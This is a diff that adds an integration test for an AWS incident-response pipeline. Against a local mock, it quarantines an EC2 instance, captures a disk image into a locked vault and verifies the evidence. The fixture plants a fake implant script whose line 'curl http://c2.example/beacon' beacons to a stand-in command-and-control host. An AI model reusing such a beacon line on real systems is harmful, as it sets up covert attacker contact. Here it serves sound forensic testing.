@@ -1,0 +1,128 @@
+import { randomBytes } from 'node:crypto';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import {
+  CreateSubnetCommand,
+  CreateVpcCommand,
+  DescribeSnapshotsCommand,
+  RunInstancesCommand,
+} from '@aws-sdk/client-ec2';
+import { DeleteObjectCommand, GetObjectCommand, type S3Client } from '@aws-sdk/client-s3';
+import { createEvidenceClients, type EvidenceClients } from '../../lambdas/core/clients';
+import { DEFAULT_EVIDENCE_CONFIG, type EvidenceConfig } from '../../lambdas/core/evidence/config';
+import { collectEvidence } from '../../lambdas/core/evidence/pipeline';
+import { verifyEvidence } from '../../lambdas/core/evidence/verify';
+import { DEFAULT_ENGINE_CONFIG } from '../../lambdas/core/isolation/engine-config';
+import { quarantine } from '../../lambdas/core/isolation/isolate';
+import { getQuarantine } from '../../lambdas/core/ledger/ledger';
+import { buildExt4Image, readFileFromImage } from '../../local-aws/disk-image';
+import { seedVolume } from '../../local-aws/ebs-bridge/seed';
+import { LOCAL_CREDENTIALS } from '../../local-aws/moto-server';
+import { createVault } from '../../local-aws/vault';
+import { freshMoto, type MotoEnv, REGION } from '../support/moto';
+
+const PLANTED = '/var/tmp/.x/implant.sh';
+const FS_MIB = 16;
+
+async function compromisedInstance(env: MotoEnv) {
+  const vpc = await env.clients.ec2.send(new CreateVpcCommand({ CidrBlock: '10.30.0.0/16' }));
+  const subnet = await env.clients.ec2.send(
+    new CreateSubnetCommand({ VpcId: vpc.Vpc?.VpcId, CidrBlock: '10.30.1.0/24' }),
+  );
+  const run = await env.clients.ec2.send(
+    new RunInstancesCommand({
+      ImageId: 'ami-12c6146b',
+      InstanceType: 't3.micro',
+      MinCount: 1,
+      MaxCount: 1,
+      SubnetId: subnet.Subnet?.SubnetId,
+      BlockDeviceMappings: [{ DeviceName: '/dev/xvda', Ebs: { VolumeSize: 1 } }],
+    }),
+  );
+  const instance = run.Instances?.[0];
+  const volumeId = instance?.BlockDeviceMappings?.[0]?.Ebs?.VolumeId ?? '';
+  return { instanceId: instance?.InstanceId ?? '', volumeId };
+}
+
+/**
+ * Reads the start of the image (the 16 MiB the filesystem occupies) back from the vault: moto reads a
+ * whole 1 GiB object per request, so the full byte-for-byte check is verify's, in two large ranges.
+ */
+async function download(s3: S3Client, bucket: string, key: string, versionId: string): Promise<string> {
+  const res = await s3.send(
+    new GetObjectCommand({
+      Bucket: bucket,
+      Key: key,
+      VersionId: versionId,
+      Range: `bytes=0-${FS_MIB * 1024 * 1024 - 1}`,
+    }),
+  );
+  const path = join(tmpdir(), `sequester-image-${Date.now()}.raw`);
+  writeFileSync(path, await (res.Body?.transformToByteArray() ?? Promise.resolve(new Uint8Array())));
+  return path;
+}
+
+describe('evidence pipeline against moto: a real ext4 disk, end to end', () => {
+  let env: MotoEnv;
+  let ev: EvidenceClients;
+  let cfg: EvidenceConfig;
+  beforeEach(async () => {
+    env = await freshMoto();
+    const opts = { region: REGION, endpoint: env.endpoint, credentials: LOCAL_CREDENTIALS, maxAttempts: 3 };
+    ev = createEvidenceClients(opts);
+    const vault = await createVault(ev.s3, opts);
+    cfg = { ...DEFAULT_EVIDENCE_CONFIG, vaultBucket: vault.bucket, retentionDays: 1 };
+  });
+
+  it('preserves the planted file byte-identical, verifies, and refuses deletion of the image', async () => {
+    // Prepare
+    const implant = Buffer.concat([
+      Buffer.from('#!/bin/sh\ncurl http://c2.example/beacon\n'),
+      randomBytes(70_000),
+    ]);
+    const image = buildExt4Image({ [PLANTED]: implant, 'etc/hostname': 'web-1\n' }, FS_MIB);
+    const target = await compromisedInstance(env);
+    await seedVolume(env.endpoint, { region: REGION, volumeId: target.volumeId, data: readFileSync(image) });
+    const out = await quarantine(
+      env.clients,
+      env.ledger,
+      {
+        instance: { instanceId: target.instanceId, region: REGION },
+        reason: 'GuardDuty Backdoor:EC2/C&CActivity.B',
+        incidentId: 'INC-7',
+        trigger: { kind: 'api', principalArn: 'arn:aws:iam::123456789012:role/on-call' },
+      },
+      DEFAULT_ENGINE_CONFIG,
+    );
+    if (out.status !== 'isolated') throw new Error(`quarantine ended ${out.status}`);
+    // Act
+    const result = await collectEvidence(ev, env.ledger, out.quarantineId, cfg, { pollIntervalMs: 10 });
+    // Assess
+    const img = result.images[0];
+    if (img === undefined) throw new Error('no image');
+    expect(img.length).toBe(1024 ** 3);
+    const raw = await download(ev.s3, cfg.vaultBucket, img.key, img.versionId);
+    expect(readFileFromImage(raw, PLANTED).equals(implant)).toBe(true);
+    const report = await verifyEvidence(ev.s3, cfg.vaultBucket, result.manifest.key, {
+      versionId: result.manifest.versionId,
+      rangeBytes: 512 * 1024 * 1024,
+      concurrency: 2,
+    });
+    expect(report.problems).toEqual([]);
+    expect(report.ok).toBe(true);
+    expect(report.objects[0]?.retention?.mode).toBe('COMPLIANCE');
+    await expect(
+      ev.s3.send(
+        new DeleteObjectCommand({ Bucket: cfg.vaultBucket, Key: img.key, VersionId: img.versionId }),
+      ),
+    ).rejects.toMatchObject({ name: 'AccessDenied' });
+    const rec = await getQuarantine(env.ledger, out.quarantineId);
+    expect(rec?.state).toBe('evidence_sealed');
+    expect(rec?.actions.map((a) => a.step)).toEqual(
+      expect.arrayContaining(['snapshot', 'export-started', 'export-finished', 'seal-manifest']),
+    );
+    const snaps = await ev.ec2.send(new DescribeSnapshotsCommand({ SnapshotIds: [img.snapshotId] }));
+    expect(snaps.Snapshots?.[0]?.Description).toContain('INC-7');
+  }, 240_000);
+});
